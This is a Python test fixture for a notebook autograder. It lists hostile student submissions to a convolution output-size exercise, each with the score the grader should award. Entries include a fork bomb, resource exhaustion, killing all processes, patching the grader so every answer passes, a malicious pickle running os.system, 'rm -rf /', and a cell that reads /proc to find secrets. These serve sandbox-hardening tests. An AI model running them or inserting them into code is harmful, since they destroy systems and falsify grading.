"""What hostile students might hand in, instead of or beside an answer to the exercise ``output_size``.

``{canary}`` and the like stand for what the test fills in.
"""

RIGHT = "return (size + 2 * padding - kernel_size) // stride + 1"


def answer(*lines):
    """Return an answer to the target question whose function begins with these lines."""
    body = "\n".join(f"    {line}" for text in lines for line in text.splitlines())
    header = "def output_size(size, kernel_size, stride=1, padding=0):"
    return f"import os, sys, time\nimport numpy as np\n{header}\n{body}\n"


# Answers in place of the right one. What the target question is worth then: "none" of its points, or "all".
ANSWERS = {
    "syntax error": ("def output_size(size, kernel_size, stride=1, padding=0)\n    return 1", "none"),
    "missing cell": ("", "none"),
    "None": (answer("return None"), "none"),
    "endless loop": (answer("while True: pass"), "none"),
    "loop that catches everything": (
        answer("while True:\n    try:\n        time.sleep(60)\n    except BaseException:\n        pass"),
        "none",
    ),
    "ends the process": (answer("os._exit(0)"), "none"),
    "sys.exit": (answer("sys.exit(0)"), "none"),
    "fork bomb": (answer("while True: os.fork()"), "none"),
    "memory hog": (answer("hog = []\nwhile True: hog.append(bytearray(b'x') * 10_000_000)"), "none"),
    "shared memory hog": (
        answer(
            "import mmap\nhog = []\nwhile True:",
            "    hog.append(mmap.mmap(-1, 10**7))\n    hog[-1].write(b'x' * 10**7)",
        ),
        "none",
    ),
    "file of 10 GB": (
        answer(
            "with open('/tmp/big', 'wb') as file:\n    for _ in range(10_000): file.write(b'x' * 10**6)",
            RIGHT,
        ),
        "none",
    ),
    "output of 1 GB": (
        answer("for _ in range(25): os.write(1, b'x' * 10**6); sys.stdout.write('x' * 10**6)", RIGHT),
        "all",
    ),
    "overwrites the checker": (
        "import dcv_grader.checks as checks, dcv_grader.judge as judge\n"
        "checks.run_test = judge.grade_question = lambda *a, **k: {'outcome': 'right'}\n"
        "checks.expect_equal = checks.expect_close = lambda *a, **k: None\n"
        "check = print\n" + answer("return 7"),
        "none",
    ),
    "patches numpy and assert": (
        "import builtins\nbuiltins.AssertionError = type('AssertionError', (BaseException,), {})\n"
        "import numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True\n" + answer("return 7"),
        "none",
    ),
    "equal to everything": (
        "class Any(int):\n    def __eq__(self, other): return True\n    def __hash__(self): return 0\n"
        "    def __repr__(self): return '3'\n" + answer("return Any(7)"),
        "none",
    ),
    "malicious pickle": (
        "import os\nclass Evil:\n    def __reduce__(self): return os.system, ('touch {canary}/pickled',)\n"
        + answer("return np.array([Evil(), Evil()], dtype=object)"),
        "none",
    ),
    "fake model": (
        "class Fake:\n    def get_weights(self): return []\n    def get_config(self): return {}\n"
        "    def to_json(self): return '{}'\n" + answer("return Fake()"),
        "none",
    ),
    "kill -1": (
        answer(
            "import signal\nfor who in (-1, 0):",
            "    for what in (signal.SIGTERM, signal.SIGKILL):",
            "        try: os.kill(who, what)\n        except OSError: pass",
            RIGHT,
        ),
        "all",
    ),
    "writes on every descriptor": (
        answer(
            "for descriptor in range(3, 64):",
            "    try: os.write(descriptor, b'\\xff' * 4096)\n    except OSError: pass",
            RIGHT,
        ),
        "none",
    ),
    "closes every descriptor": (answer("os.closerange(0, 256)", RIGHT), "none"),
    "endless list": (answer("deep = []\nfor _ in range(100_000): deep = [deep]\nreturn deep"), "none"),
    "answer of 200 MB": (answer("return 'x' * 200_000_000"), "none"),
    "network": (
        answer(
            "import socket\n"
            "for address in (('127.0.0.1', {port}), ('192.0.2.1', 80)):\n"
            "    try: socket.create_connection(address, timeout=1).sendall(b'here')\n"
            "    except OSError: pass",
            RIGHT,
        ),
        "all",
    ),
    "writes elsewhere": (
        answer(
            "folders = ['{canary}', '{submissions}', '{out}', '/', '/usr', '/opt/grader', sys.prefix]\n"
            "for folder in folders:\n"
            "    try: open(folder + '/written', 'w').write('here')\n"
            "    except OSError: pass",
            RIGHT,
        ),
        "all",
    ),
}

# Cells beside right answers: what the notebook is worth must not change. Notes tell what they found.
SPY = """
import os
found = []
for folder, folders, names in os.walk("/"):
    known = ("/usr", "/proc", "{prefix}", "{base}")  # the system, and where Python lies
    folders[:] = [name for name in folders if os.path.join(folder, name) not in known]
    found += [name for name in names if name.endswith((".ipynb", ".json")) or "canary" in name]
processes = [name for name in os.listdir("/proc") if name.isdigit()]
texts = []
for process in processes:
    for file in ("cmdline", "environ", "maps"):
        try: texts.append(open(f"/proc/{process}/{file}").read())
        except OSError: pass
secret = "expect_equal(output" + "_size"
knows = any(secret in text for text in texts)
raise LookupError(f"found {found}, {len(processes)} processes, secret {knows}")
"""
CELLS = {
    "cell ends the process": "import os\nos._exit(1)",
    "cell never ends": "while True: pass",
    "cell in another language": "%%bash\nrm -rf /",
    "cell with magics": "%matplotlib inline\n!echo 3",
    "spy": SPY,
}
